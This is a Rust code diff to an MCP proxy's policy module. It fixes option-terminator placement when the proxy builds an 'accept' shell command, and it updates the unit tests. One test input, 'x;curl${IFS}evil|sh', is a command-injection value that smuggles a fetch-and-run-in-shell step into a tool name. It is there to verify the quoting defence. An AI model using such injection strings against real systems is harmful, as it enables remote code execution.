@@ -19,12 +19,12 @@ pub(super) const DENY_ABORT: &str = "deny_abort";
 pub(super) struct Target {
     pub(super) server: Arc<str>,
     /// The server's own name for the tool; `None` unless the message is a `tools/call`, or a
-    /// client's answer that is checked like one.
+    /// client's answer that is judged like a tool call.
     pub(super) tool: Option<Arc<str>>,
 }
 
 impl Target {
-    /// The target of an MCP flow; `None` if the flow is not MCP, or if the gateway itself answers.
+    /// The target of an MCP flow; `None` if the flow is not MCP, or if the gateway itself responds.
     pub(super) fn of(flow: &Flow) -> Option<Self> {
         let subject = flow.mcp()?;
         let is_call = &*subject.method == super::TOOLS_CALL;
@@ -85,7 +85,7 @@ impl Target {
             .hint("repair the bundle that policies.bundles in mcp.yaml names")
     }
 
-    /// The denial of an answer with an error code or message that is reserved for the proxy.
+    /// The denial of a server's error whose code or message is reserved for the proxy.
     pub(super) fn misused(&self, code: i64) -> Denial {
         let sentence = format!(
             "{} answered with an error that is reserved for the proxy",
@@ -125,8 +125,9 @@ pub fn accept_command(server: &str, tool: &str) -> String {
         true => tool.to_owned(),
         false => format!("'{}'", tool.replace('\'', r"'\''")),
     };
-    let options_end = if tool.starts_with('-') { "-- " } else { "" };
-    format!("unified-proxy mcp accept {server} {options_end}{quoted}")
+    let is_like_an_option = server.starts_with('-') || tool.starts_with('-');
+    let options_end = if is_like_an_option { "-- " } else { "" };
+    format!("unified-proxy mcp accept {options_end}{server} {quoted}")
 }
 
 #[cfg(test)]
@@ -135,14 +136,15 @@ mod tests {
 
     #[test]
     fn the_command_that_accepts_a_definition_passes_any_tool_name_as_one_argument() {
-        for (tool, expected) in [
-            ("fetch", "fetch"),
-            ("x;curl${IFS}evil|sh", "'x;curl${IFS}evil|sh'"),
-            ("it's", r"'it'\''s'"),
-            ("--json", "-- --json"),
+        for (server, tool, expected) in [
+            ("kb", "fetch", "kb fetch"),
+            ("kb", "x;curl${IFS}evil|sh", "kb 'x;curl${IFS}evil|sh'"),
+            ("kb", "it's", r"kb 'it'\''s'"),
+            ("kb", "--json", "-- kb --json"),
+            ("-kb", "fetch", "-- -kb fetch"),
         ] {
-            let command = accept_command("kb", tool);
-            assert_eq!(command, format!("unified-proxy mcp accept kb {expected}"));
+            let command = accept_command(server, tool);
+            assert_eq!(command, format!("unified-proxy mcp accept {expected}"));
         }
     }
 }
